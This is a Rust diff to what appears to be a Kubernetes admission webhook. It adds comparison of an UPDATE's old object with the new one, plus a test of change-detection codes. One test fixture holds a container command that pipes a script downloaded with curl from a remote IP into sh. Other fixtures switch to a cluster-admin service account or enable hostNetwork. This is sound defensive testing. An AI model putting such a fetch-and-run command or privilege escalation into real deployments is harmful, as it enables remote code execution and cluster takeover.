@@ -64,6 +64,8 @@ struct RequestWire<'a, M> {
     operation: Text<'a>,
     user_info: Option<UserInfoWire<'a>>,
     object: ObjectField<'a>,
+    /// UPDATE: the object as it was, so the request is judged as a change too.
+    old_object: ObjectField<'a>,
     dry_run: Option<bool>,
     mode: std::marker::PhantomData<M>,
 }
@@ -101,11 +103,16 @@ impl<'de: 'a, 'a, M: Mode> Deserialize<'de> for RequestWire<'a, M> {
                         "operation" => r.operation = map.next_value()?,
                         "userInfo" => r.user_info = map.next_value()?,
                         "dryRun" => r.dry_run = map.next_value()?,
-                        "object" => {
+                        key @ ("object" | "oldObject") => {
                             // The API server writes `kind` before `object`, so the object's
                             // shape is known when it arrives.
                             let kind = r.kind.as_ref().and_then(|k| k.kind.as_deref());
-                            r.object = match kind {
+                            let slot = if key == "object" {
+                                &mut r.object
+                            } else {
+                                &mut r.old_object
+                            };
+                            *slot = match kind {
                                 Some(kind) if M::TYPED && is_built_in(kind) => {
                                     ObjectField::Typed(map.next_value_seed(BuiltIn { kind })?)
                                 }
@@ -338,6 +345,7 @@ fn deployments<M: Mode>(mut req: RequestWire<'_, M>) -> Result<Option<Vec<Deploy
         },
         ..Deployment::default()
     };
+    let old_object = std::mem::take(&mut req.old_object);
     let found = match req.object {
         ObjectField::Typed(Some(found)) => found,
         ObjectField::Typed(None) => return Ok(None),
@@ -368,6 +376,17 @@ fn deployments<M: Mode>(mut req: RequestWire<'_, M>) -> Result<Option<Vec<Deploy
         }
         _ => return Err(BadReview("request.object is missing".into())),
     };
+    // An UPDATE's old object: each pod it held is the previous spec of the same pod now.
+    let previous: Vec<Option<portcullis_model::PodSpec>> = match old_object {
+        ObjectField::Typed(Some(old)) => old.into_iter().map(|d| d.pod).collect(),
+        ObjectField::Raw(raw) if raw.get().starts_with('{') => built_in(raw.get(), kind)
+            .or_else(|| object_by_value(raw.get(), kind, &base.origin).ok())
+            .unwrap_or_default()
+            .into_iter()
+            .map(|d| d.pod)
+            .collect(),
+        _ => Vec::new(),
+    };
     // The request says who did what (uid, actor, operation, and the name and namespace it
     // was sent to); the object says what it is (kind, labels, pod). The last deployment takes
     // the request's facts, the others (a CRD with several pods) a copy.
@@ -389,6 +408,7 @@ fn deployments<M: Mode>(mut req: RequestWire<'_, M>) -> Result<Option<Vec<Deploy
                 d.outcome = b.outcome;
                 d.target.name = b.target.name.or(d.target.name);
                 d.target.namespace = b.target.namespace.or(d.target.namespace);
+                d.previous = previous.get(i).cloned().flatten().map(Box::new);
                 d
             })
             .collect(),
@@ -685,6 +705,64 @@ mod tests {
         );
         let (_, _, verdict) = review(&st, ok.as_bytes()).expect("reads");
         assert!(verdict.allowed);
+    }
+
+    #[test]
+    fn an_update_is_judged_as_a_change_from_its_old_object() {
+        let (_rt, st) = crate::tests::memory_state();
+        let deployment = |containers: &str, extra: &str| {
+            format!(
+                r#"{{"apiVersion":"apps/v1","kind":"Deployment","metadata":{{"name":"api","namespace":"shop"}},"spec":{{"template":{{"spec":{{"serviceAccountName":"api"{extra},"containers":[{containers}]}}}}}}}}"#
+            )
+        };
+        let api = r#"{"name":"api","image":"ghcr.io/acme/api:2.4.1","command":["/app/api"]}"#;
+        let old = deployment(api, "");
+        let review_of = |new: &str, old: &str| {
+            format!(
+                r#"{{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{{"uid":"u1","kind":{{"group":"apps","version":"v1","kind":"Deployment"}},"resource":{{"group":"apps","version":"v1","resource":"deployments"}},"name":"api","namespace":"shop","operation":"UPDATE","userInfo":{{"username":"bob"}},"object":{new},"oldObject":{old}}}}}"#
+            )
+        };
+        let codes = |new: &str| -> Vec<String> {
+            let (_, _, verdict) = review(&st, review_of(new, &old).as_bytes()).expect("reads");
+            verdict.codes
+        };
+        for (new, code) in [
+            (
+                deployment(
+                    r#"{"name":"api","image":"docker.io/someone/api:2.4.1","command":["/app/api"]}"#,
+                    "",
+                ),
+                "MOD001",
+            ),
+            (
+                deployment(
+                    &format!(r#"{api},{{"name":"sidecar","image":"ghcr.io/acme/api:2.4.1"}}"#),
+                    "",
+                ),
+                "MOD002",
+            ),
+            (
+                deployment(
+                    r#"{"name":"api","image":"ghcr.io/acme/api:2.4.1","command":["sh","-c","curl -s http://203.0.113.7/x | sh"]}"#,
+                    "",
+                ),
+                "MOD003",
+            ),
+            (deployment(api, r#","hostNetwork":true"#), "MOD004"),
+            (
+                deployment(api, "").replace(
+                    r#""serviceAccountName":"api""#,
+                    r#""serviceAccountName":"cluster-admin""#,
+                ),
+                "MOD005",
+            ),
+        ] {
+            let got = codes(&new);
+            assert!(got.iter().any(|c| c == code), "{code}: {got:?}");
+        }
+        // The same object again is no change; a CREATE has no old object to compare.
+        let same = codes(&old);
+        assert!(!same.iter().any(|c| c.starts_with("MOD")), "{same:?}");
     }
 
     fn yaml_files(dir: &Path, out: &mut Vec<PathBuf>) {
